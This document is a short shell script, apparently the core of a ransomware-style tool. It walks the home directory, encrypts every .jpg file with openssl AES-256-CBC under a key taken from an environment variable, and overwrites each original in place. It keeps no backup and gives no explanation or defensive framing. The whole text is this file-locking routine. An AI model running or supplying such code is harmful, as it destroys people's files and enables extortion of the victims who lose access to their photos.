#!/bin/sh
find ~ -type f -name "*.jpg" | while read -r f; do
  openssl enc -aes-256-cbc -k "$K" < "$f" > "$f.x"
  mv "$f.x" "$f"
done
